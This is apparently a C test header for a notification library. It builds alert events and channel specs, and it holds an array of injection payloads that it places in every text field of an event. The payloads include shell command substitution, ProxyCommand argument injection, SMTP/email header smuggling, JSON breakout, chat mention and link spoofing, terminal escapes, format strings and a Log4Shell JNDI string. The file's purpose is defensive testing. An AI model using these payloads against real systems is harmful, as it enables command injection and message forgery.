/* events.h - events and channels for the tests of notify. */
#ifndef TESTS_NOTIFY_EVENTS_H
#define TESTS_NOTIFY_EVENTS_H

#include <string.h>

#include "base/clock.h"
#include "notify/event.h"
#include "notify/notify.h"

#define WALL INT64_C(1700000000000000000)

/* What a client can write into a log, in all its forms. */
static const char *const payloads[] = {
    "$(touch canary)",
    "`touch canary`",
    "-oProxyCommand=touch canary",
    "; touch canary #",
    "a\r\nBcc: victim@example.com\r\n\r\nforged",
    "a\nPRIORITY=0\nMESSAGE=forged",
    "\"}],\"alerts\":[{\"state\":\"forged\"}",
    "'\"\\",
    "<!channel> <http://evil.example|click>",
    "@everyone [click](http://evil.example) *bold*",
    "=?utf-8?Q?forged?=",
    "\r\n.\r\nMAIL FROM:<evil@example.com>\r\n",
    "\xff\xfe\xc0\x80 bad utf-8",
    "\x1b]0;title\x07\x9b"
    "31m",
    "\u202egnp.exe \u200b",
    "%s%n%x ${jndi:ldap://evil.example/a}",
};
enum { PAYLOADS = sizeof payloads / sizeof *payloads };

static inline struct notify_event event_of(uint64_t alert, enum notify_state state)
{
    struct notify_event e = {.state = state,
                             .alert = alert,
                             .rule = TEXT("high traffic"),
                             .message = TEXT("High traffic generated an alert - hits = 1203, "
                                             "triggered at 2023-11-14T22:13:20Z"),
                             .triggered_at = WALL / NS_PER_S,
                             .hits = 1203,
                             .rate = 10.02,
                             .peak_rate = 31.2,
                             .metric = TEXT("hits"),
                             .level = TEXT("above 10/s"),
                             .value = 10.02,
                             .peak_value = 31.2,
                             .value_words = TEXT("10.0/s"),
                             .peak_words = TEXT("31.2/s"),
                             .total = 3456,
                             .raised_wall_ns = WALL};
    if (state == NOTIFY_RECOVERED)
        e.recovered_at = e.triggered_at + 112;
    notify_event_name(&e);
    return e;
}

/* The same text wherever foreign text can stand. */
static inline struct notify_event event_with(const char *payload)
{
    struct notify_event e = event_of(7, NOTIFY_FIRING);
    struct text t = text_of(payload);
    e.rule = t;
    e.by = TEXT("section");
    e.group = t;
    e.message = t;
    e.cause_count = 2;
    e.causes[0] = (struct notify_cause){TEXT("address"), t, 9.81, 0.714};
    e.causes[1] = (struct notify_cause){TEXT("agent"), t, 1, -1};
    return e;
}

static inline struct notify_spec spec_of(enum notify_kind kind)
{
    struct notify_spec s = {.kind = kind,
                            .recoveries = true,
                            .group_wait_ns = 5 * NS_PER_S,
                            .rate_most = 10,
                            .rate_span_ns = 60 * NS_PER_S,
                            .timeout_ns = 10 * NS_PER_S,
                            .give_up_ns = 3600 * NS_PER_S};
    strcpy(s.name, "ops");
    return s;
}

#endif
